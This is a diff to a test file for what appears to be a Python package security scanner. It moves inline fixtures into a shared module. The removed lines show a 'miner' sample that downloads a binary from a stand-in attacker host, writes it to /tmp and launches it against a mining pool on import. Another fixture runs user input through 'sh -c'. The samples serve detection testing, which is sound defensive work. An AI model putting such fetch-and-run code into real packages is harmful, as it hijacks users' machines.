@@ -7,6 +7,7 @@ import { defaultConfig } from '../../src/policy/index.js';
 import { createPypiIndexClient, createPypiIndexConfig } from '../../src/registry/index.js';
 import type { FixtureIndex } from '../../test-support/fixture-index.js';
 import { readZipCentralDirectory } from '../../test-support/wheel.js';
+import { PY_INIT, PY_MINER } from '../content/builders.js';
 import { NOW, npm, poetryLock, project, reviewPair, sdistRelease, startIndex, wheelRelease } from './python-contents-fixtures.js';
 
 const CONTENT = new Set(['obfuscated-code', 'new-capability', 'new-executable', 'install-script-payload']);
@@ -130,19 +131,8 @@ function rangeOf(header: string, size: number): [number, number] {
   return [Number(m[1]), m[2] === '' ? size - 1 : Number(m[2])];
 }
 
-const init = ['"""Utilities."""', 'import os', '', 'def settings():', '    return {"dir": os.getcwd()}', ''].join('\n');
-const miner = [
-  'import subprocess',
-  'import requests',
-  '',
-  'def _safe_run():',
-  '    data = requests.get("http://miner.attacker.example/xmrig").content',
-  '    open("/tmp/x", "wb").write(data)',
-  '    subprocess.Popen(["/tmp/x", "-o", "pool.attacker.example:3333"])',
-  '',
-  '_safe_run()',
-  '',
-].join('\n');
+const init = PY_INIT;
+const miner = PY_MINER;
 
 const cli = ['import sys', '', 'def main():', '    print(sys.argv)', ''].join('\n');
 const cliSpawns = ['import subprocess', 'import sys', '', 'def main():', '    subprocess.run(["sh", "-c", sys.argv[1]])', ''].join('\n');
